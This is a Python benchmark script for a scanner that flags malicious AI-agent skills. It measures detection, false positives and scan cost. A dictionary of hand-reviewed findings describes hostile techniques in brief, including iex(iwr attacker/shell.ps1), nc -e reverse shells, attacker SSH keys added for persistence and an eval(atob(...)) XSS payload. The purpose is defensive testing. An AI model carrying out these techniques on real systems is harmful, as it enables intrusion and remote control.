"""The content scan: detection on malicious skills we wrote (`_malicious.py`: every attack class, several variants,
fake and inert), false positives on the public skill libraries (no critical finding allowed) and on the 2,651-skill
corpus (each skill flagged critical read by hand: `REVIEWED`), and what scanning costs.

    python benchmarks/scan.py --data ../shared/bench [--mirrors /work/.mirror]

The public libraries are cloned from local mirrors (`<mirrors>/<owner>+<name>/repo`); a missing one is recorded as
such. Times: scanning the corpus's 2,651 `SKILL.md` texts in memory (the scan's own cost, what `skillshelf scan`
pays); building a folder library of them with `scan='refuse'` against `scan='off'` (what an agent's start pays: the
frontmatter only); and each skill's first use (`SkillLibrary.get`, which scans its body and files), per skill. Each
the median of the runs, with the load average beside them (the 2-CPU VM is shared).
"""

from __future__ import annotations

import argparse
import os
import statistics
import subprocess
import sys
import tempfile
import time
import warnings
from pathlib import Path
from typing import Any

os.environ['SKILLSHELF_CACHE_DIR'] = 'off'
sys.path.insert(0, str(Path(__file__).parent))

import report
from _datasets import Doc, read_jsonl
from _folders import write_skill_folders
from _malicious import RULES, VARIANTS
from _results import machine, write_json

from skillshelf import LibraryOptions, Skill, SkillLibrary
from skillshelf.scan import Finding, scan_files, scan_skill
from skillshelf.scan.cache import findings_cache

PUBLIC = ('anthropics/skills', 'openai/skills', 'obra/superpowers', 'vercel-labs/agent-skills')
CORPUS = ('skills_corpus.jsonl', 'skills_corpus_composio_toolkits.jsonl', 'skilltrigger_skills.jsonl')
REVIEWED = {
    'wshobson/linkerd-patterns': 'vendor installer: pipes run.linkerd.io/install into sh (real fetch-and-run, benign intent)',
    'wshobson/gitops-workflow': 'vendor installer: pipes fluxcd.io/install.sh into bash (real fetch-and-run, benign intent)',
    'copilot/aspire': 'vendor installer: pipes aspire.dev/install.sh into bash and install.ps1 into iex (real fetch-and-run, benign intent)',
    'antigravity/metasploit-framework': "vendor installer: downloads rapid7's msfinstall and runs it (real fetch-and-run, benign intent)",
    'antigravity/linux-privilege-escalation': 'offensive-security teaching: linpeas piped into sh, reverse shells written into cron scripts (attack content by design)',
    'antigravity/privilege-escalation-methods': 'offensive-security teaching: a scheduled task running iex(iwr attacker/shell.ps1) (attack content by design)',
    'antigravity/ssh-penetration-testing': "offensive-security teaching: adds the attacker's key to authorized_keys for persistence (attack content by design)",
    'antigravity/windows-privilege-escalation': 'offensive-security teaching: nc -e reverse shells in service binpaths (attack content by design)',
    'antigravity/cross-site-scripting-and-html-injection-testing': 'offensive-security teaching: an eval(atob(...)) XSS payload (attack content by design)',
    'Connected-Mate/corporate-launcher:corporate-launcher': 'false positive: quotes the curl | bash one-liner its output offers for an internal placeholder host (acme.internal)',
}
"""Every corpus skill the scan flags critical, read by hand, with the verdict."""


def critical(findings: list[Finding]) -> list[Finding]:
    return [finding for finding in findings if finding.severity == 'critical']


def detection(root: Path) -> dict[str, Any]:
    """Scan each malicious variant, and build a library of them all as an agent would (`scan='refuse'`), then use
    each skill once: refused at build (its frontmatter) or at first use (its body and files)."""
    by_class: dict[str, dict[str, Any]] = {}
    for kind, name, files in VARIANTS:
        folder = root / name
        for path, text in files.items():
            (folder / path).parent.mkdir(parents=True, exist_ok=True)
            (folder / path).write_text(text, encoding='utf-8')
        rules = RULES[kind] if isinstance(RULES[kind], tuple) else (RULES[kind],)
        found = critical(scan_skill(Skill.from_folder(folder)))
        row = by_class.setdefault(kind, {'variants': 0, 'detected': 0, 'missed': []})
        row['variants'] += 1
        if any(finding.rule in rules for finding in found):
            row['detected'] += 1
        else:
            row['missed'].append(name)
    with warnings.catch_warnings():
        warnings.simplefilter('ignore')
        library = SkillLibrary.build(options=LibraryOptions(directories=[root]))
        at_build = sum('refused by the content scan' in problem.problem for problem in library.skipped)
        at_first_use = sum(library.get(name) is None for name in list(library.skills))
    return {
        'variants': len(VARIANTS),
        'detected': sum(row['detected'] for row in by_class.values()),
        'refused_at_build': at_build,
        'refused_at_first_use': at_first_use,
        'loaded': len(library),
        'classes': by_class,
    }


def public_libraries(mirrors: Path, work: Path) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    for repo in PUBLIC:
        mirror = mirrors / repo.replace('/', '+') / 'repo'
        if not mirror.exists():
            rows.append({'repo': repo, 'available': False})
            continue
        checkout = work / repo.replace('/', '+')
        subprocess.run(['git', 'clone', '-q', str(mirror), str(checkout)], check=True)
        commit = subprocess.run(
            ['git', '-C', str(checkout), 'rev-parse', 'HEAD'], capture_output=True, text=True, check=True
        ).stdout.strip()
        findings: list[Finding] = []
        skills = 0
        for skill_file in sorted(checkout.rglob('SKILL.md')):
            if '.git' in skill_file.parts:
                continue
            with warnings.catch_warnings():
                warnings.simplefilter('ignore')
                try:
                    skill = Skill.from_folder(skill_file.parent)
                except Exception:
                    continue
            skills += 1
            findings += scan_skill(skill)
        rows.append(
            {
                'repo': repo,
                'available': True,
                'commit': commit,
                'skills': skills,
                'critical': [str(finding) for finding in critical(findings)],
                'warnings': sum(finding.severity == 'warning' for finding in findings),
                'info': sum(finding.severity == 'info' for finding in findings),
            }
        )
    return rows


def corpus(data: Path, work: Path, repeat: int) -> dict[str, Any]:
    rows = [row for name in CORPUS for row in read_jsonl(data / name)]
    texts = [
        (row['id'], row['name'], f'---\nname: {row["name"]}\ndescription: {row["description"]}\n---\n{row["body"]}')
        for row in rows
    ]
    times: list[float] = []
    flagged: dict[str, list[Finding]] = {}
    for _ in range(repeat):
        findings_cache.clear()  # each run scans cold
        started = time.perf_counter()
        flagged = {}
        for skill_id, name, text in texts:
            found = critical(scan_files(name, [('SKILL.md', text)]))
            if found:
                flagged[skill_id] = found
        times.append(time.perf_counter() - started)
    folder = work / 'corpus'
    write_skill_folders([Doc(row['id'], row['name'], row['description'], row['body']) for row in rows], folder)
    build: dict[str, list[float]] = {'off': [], 'refuse': []}
    first_use: list[float] = []
    for _ in range(repeat):
        for mode in build:
            findings_cache.clear()
            started = time.perf_counter()
            library = _build(folder, mode)
            build[mode].append(time.perf_counter() - started)
        first_use = _first_use(library)  # pyright: ignore[reportPossiblyUnboundVariable]  # the last build's (`refuse`)
    return {
        'skills': len(texts),
        'critical_skills': len(flagged),
        'critical_share': len(flagged) / len(texts),
        'flagged': [
            {
                'id': skill_id,
                'findings': [f'{f.file}:{f.line} [{f.rule}] {f.message}' for f in found],
                'verdict': REVIEWED.get(skill_id, 'NOT YET READ'),
            }
            for skill_id, found in flagged.items()
        ],
        'unreviewed': sorted(set(flagged) - set(REVIEWED)),
        'scan_s': statistics.median(times),
        'scan_runs_s': times,
        'build_off_s': statistics.median(build['off']),
        'build_refuse_s': statistics.median(build['refuse']),
        'load_overhead_s': statistics.median(build['refuse']) - statistics.median(build['off']),
        'first_use_ms_median': 1000 * statistics.median(first_use),
        'first_use_ms_p95': 1000 * sorted(first_use)[int(0.95 * len(first_use))],
    }


def _build(folder: Path, mode: str) -> SkillLibrary:
    with warnings.catch_warnings():
        warnings.simplefilter('ignore')
        return SkillLibrary.build(options=LibraryOptions(directories=[folder], scan=mode))  # pyright: ignore[reportArgumentType]


def _first_use(library: SkillLibrary) -> list[float]:
    """Seconds each skill's first use takes (its body and files scanned, cold), one skill after another."""
    times: list[float] = []
    findings_cache.clear()
    with warnings.catch_warnings():
        warnings.simplefilter('ignore')
        for name in list(library.skills):
            started = time.perf_counter()
            library.get(name)
            times.append(time.perf_counter() - started)
    return times


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or '').split('\n')[0])
    parser.add_argument('--data', type=Path, required=True)
    parser.add_argument('--mirrors', type=Path, default=Path('/work/.mirror'))
    parser.add_argument('--repeat', type=int, default=3)
    parser.add_argument('--no-readme', action='store_true')
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as temporary:
        work = Path(temporary)
        malicious = detection(work / 'malicious')
        print(f'malicious: {malicious["detected"]}/{malicious["variants"]} detected', flush=True)
        public = public_libraries(args.mirrors, work / 'public')
        print(
            f'public: {[(row["repo"], row.get("skills"), len(row.get("critical", []))) for row in public]}', flush=True
        )
        load_before = os.getloadavg()[0]
        measured = corpus(args.data, work, args.repeat)
        load_after = os.getloadavg()[0]
    print(
        f'corpus: {measured["critical_skills"]}/{measured["skills"]} critical, scan {measured["scan_s"]:.2f} s',
        flush=True,
    )
    payload = {
        'machine': {**machine(), 'load_average_1min': [load_before, load_after]},
        'malicious': malicious,
        'public': public,
        'corpus': measured,
    }
    path = write_json('scan', payload)
    print(f'wrote {path}')
    if measured['unreviewed']:
        print(f'flagged but not yet read by hand: {measured["unreviewed"]}')
    if not args.no_readme:
        report.regenerate()


if __name__ == '__main__':
    main()
